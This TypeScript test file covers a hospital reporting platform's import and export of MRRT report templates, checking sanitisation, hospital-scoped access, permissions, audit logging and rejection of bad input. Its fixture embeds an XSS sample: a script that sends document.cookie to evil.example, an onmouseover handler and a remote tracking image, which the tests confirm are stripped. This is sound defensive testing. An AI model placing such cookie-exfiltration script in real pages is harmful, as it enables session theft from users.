import { eq } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { DEFAULT_TEMPLATE_ELEMENTS } from '@shared/report/default-template';
import { auditLog, layoutTemplate } from '../../platform/db/schema';
import { call } from '../../../../tests/support/api-client';
import { useTestPlatform } from '../../../../tests/support/use-test-platform';

const t = useTestPlatform({ users: ['admin', 'hadmin', 'doctor', 'doctor2'] });

const MRRT = `<!DOCTYPE html><html><head><meta charset="UTF-8"><title>US Thyroid</title>
<script>fetch('http://evil.example/'+document.cookie)</script></head><body>
<section id="s1" class="level1"><header class="level1">Findings</header>
<p><label for="T1">Right lobe</label><input type="number" id="T1"> mm</p>
<p onmouseover="alert(1)"><label for="T2">Echo</label><select id="T2"><option>homogeneous</option><option>heterogeneous</option></select></p>
<img src="http://evil.example/track.gif"></section></body></html>`;

const importAs = (
  user: 'admin' | 'hadmin' | 'doctor',
  query: string,
  body: string,
  type = 'text/html; charset=utf-8',
) =>
  call(t.p.app, 'POST', `/layout/importMrrt${query}`, {
    token: t.token(user),
    rawBody: body,
    headers: { 'content-type': type },
  });
const exportAs = (user: 'admin' | 'hadmin' | 'doctor' | 'doctor2', pk: number) =>
  call(t.p.app, 'GET', `/layout/exportMrrt?pk=${pk}`, { token: t.token(user) });
const rowOf = async (pk: number) =>
  (await t.p.deps.db.select().from(layoutTemplate).where(eq(layoutTemplate.pk, pk)))[0]!;

describe('POST /layout/importMrrt and GET /layout/exportMrrt', () => {
  it('imports an MRRT file into a layout of the hospital and modality, sanitised, and audits it', async () => {
    const r = await importAs('hadmin', '?hospital_code=H001&modality=US', MRRT);
    expect(r.status).toBe(200);
    const { pk, name, removed } = r.body.data as { pk: number; name: string; removed: number };
    expect(name).toBe('US Thyroid');
    expect(removed).toBeGreaterThanOrEqual(3); // the script, the handler, the remote image
    const row = await rowOf(pk);
    expect(row).toMatchObject({ hospital_code: 'H001', modality: 'US', name: 'US Thyroid' });
    const stored = JSON.stringify(row.elements);
    expect(stored).toContain('Right lobe');
    expect(stored).toContain('heterogeneous');
    expect(stored).not.toMatch(/evil|alert|cookie|fetch/);
    const audit = await t.p.deps.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.target, `layout_template:${pk}`));
    expect(audit.map((a) => [a.action, a.username])).toEqual([['layout_import_mrrt', 'hadmin']]);
  });

  it('round trip through the API: export, import, the same template', async () => {
    // The installation default (seeded) as the super administrator sees it.
    const [seeded] = await t.p.deps.db.select().from(layoutTemplate).where(eq(layoutTemplate.hospital_code, ''));
    const exported = await exportAs('admin', seeded!.pk);
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toContain('text/html');
    expect(exported.headers.get('content-disposition')).toMatch(/^attachment; filename="layout-\d+\.mrrt\.html"$/);
    expect(exported.headers.get('content-security-policy')).toContain("script-src 'self'");
    expect(exported.text).toContain('IMAGE_REPORT_TEMPLATE');
    const again = await importAs('admin', '?hospital_code=H002&modality=CT', exported.text);
    expect(again.status).toBe(200);
    const copy = await rowOf((again.body.data as { pk: number }).pk);
    expect(copy.elements).toEqual(seeded!.elements);
    expect(copy.elements).toEqual(DEFAULT_TEMPLATE_ELEMENTS);
    expect(copy).toMatchObject({ hospital_code: 'H002', modality: 'CT', name: seeded!.name });
    // and once more: an imported layout exports to the same file
    const twice = await exportAs('admin', copy.pk);
    const body = (html: string) => html.slice(html.indexOf('<body>'), html.indexOf('</body>'));
    expect(body(twice.text)).toBe(body(exported.text));
  });

  it("keeps a hospital's staff to their hospital: another hospital's import is 403, its layout 404", async () => {
    const before = (await t.p.deps.db.select().from(layoutTemplate)).length;
    const other = await importAs('hadmin', '?hospital_code=H002&modality=CT', MRRT, 'text/html');
    expect(other.status).toBe(403);
    const installation = await importAs('hadmin', '?hospital_code=&modality=CT', MRRT);
    expect(installation.status).toBe(200); // '' means their own hospital for them
    expect((await rowOf((installation.body.data as { pk: number }).pk)).hospital_code).toBe('H001');
    const h002 = await importAs('admin', '?hospital_code=H002', MRRT);
    const pk = (h002.body.data as { pk: number }).pk;
    expect((await exportAs('hadmin', pk)).status).toBe(404);
    expect((await exportAs('admin', pk)).status).toBe(200);
    expect((await t.p.deps.db.select().from(layoutTemplate)).length).toBe(before + 2);
  });

  it('needs point:edit', async () => {
    expect((await importAs('doctor', '?hospital_code=H001', MRRT)).status).toBe(403);
    expect((await exportAs('doctor', 1)).status).toBe(403);
  });

  it('refuses what is not an importable MRRT file, in the caller’s language, writing nothing', async () => {
    const before = (await t.p.deps.db.select().from(layoutTemplate)).length;
    const cases: [string, string, string, RegExp][] = [
      ['?hospital_code=H001', '{"a":1}', 'application/json', /text\/html/],
      ['?hospital_code=H001', '', 'text/html', /text\/html/],
      [
        '?hospital_code=H001',
        '<html><body><script>x()</script><img src="http://e/x"></body></html>',
        'text/html',
        /nothing that can be imported/,
      ],
      ['?hospital_code=H001', `<body>${'<p>x</p>'.repeat(2001)}</body>`, 'text/html', /at most 2000 elements/],
      ['?hospital_code=NOPE', MRRT, 'text/html', /./],
      ['?modality=XX', MRRT, 'text/html', /./],
      ['?hospital_code=H001&extra=1', MRRT, 'text/html', /./],
    ];
    for (const [query, body, type, msg] of cases) {
      const r = await call(t.p.app, 'POST', `/layout/importMrrt${query}`, {
        token: t.token('admin'),
        lang: 'en-US',
        rawBody: body,
        headers: { 'content-type': type },
      });
      expect([r.status, r.body.success], query + type).toEqual([400, false]);
      expect(JSON.stringify(r.body), query).toMatch(msg);
    }
    const zh = await importAs('admin', '?hospital_code=H001', '<body></body>');
    expect(JSON.stringify(zh.body)).toContain('没有可导入的内容');
    const big = await importAs('admin', '?hospital_code=H001', `<body>${'x'.repeat(1024 * 1024 + 10)}</body>`);
    expect(big.status).toBe(413);
    const badUtf8 = await t.p.app.request('/layout/importMrrt?hospital_code=H001', {
      method: 'POST',
      headers: { authorization: `Bearer ${t.token('admin')}`, 'content-type': 'text/html' },
      body: new Uint8Array([0x3c, 0x70, 0x3e, 0xff, 0xfe, 0x3c]),
    });
    expect(badUtf8.status).toBe(400);
    expect((await t.p.deps.db.select().from(layoutTemplate)).length).toBe(before);
  });
});
